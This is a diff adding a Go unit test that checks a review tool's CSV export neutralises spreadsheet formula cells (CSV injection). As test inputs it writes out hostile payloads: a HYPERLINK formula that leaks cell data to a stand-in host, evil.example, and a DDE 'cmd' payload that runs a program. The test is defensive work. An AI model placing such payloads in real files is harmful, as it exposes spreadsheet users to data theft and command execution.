@@ -1,6 +1,7 @@
 package review
 
 import (
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"math"
@@ -196,5 +197,47 @@ func TestDecide(t *testing.T) {
 	}
 	if _, _, err := Decide([][]Label{a, b[:3]}, []string{"a", "b"}); err == nil {
 		t.Error("got no error for an id missing from the second sheet")
+	}
+}
+
+// TestCSVCellsAreNotFormulas: a review sheet opened in a spreadsheet must
+// not compute a cell that came from a mined repository (OWASP CSV
+// injection: cells starting with =, +, -, @, tab or CR): each gets a
+// leading "'", and the id still reads back as itself.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	t.Parallel()
+	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"}
+	var items []Item
+	for i, s := range evil {
+		items = append(items, Item{ID: s + string(rune('a'+i)), Repo: "o/r", Commit: "abc", File: s, Subject: s, Diff: "--- a/m.py\n+++ b/m.py\n"})
+	}
+	var b strings.Builder
+	if err := WriteCSV(&b, items); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		for j, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s: cell %q starts a formula", csvHeader[j], cell)
+			}
+		}
+	}
+	// labelled and read back: the ids are the items' own
+	filled := strings.ReplaceAll(b.String(), ",,,\n", ",accept,,\n")
+	ls, err := ReadLabels(writeFile(t, "filled.csv", filled))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(ls) != len(items) {
+		t.Fatalf("got %d labels, want %d", len(ls), len(items))
+	}
+	for i, l := range ls {
+		if l.ID != strings.TrimSpace(items[i].ID) {
+			t.Errorf("label %d: id %q, want %q", i, l.ID, items[i].ID)
+		}
 	}
 }
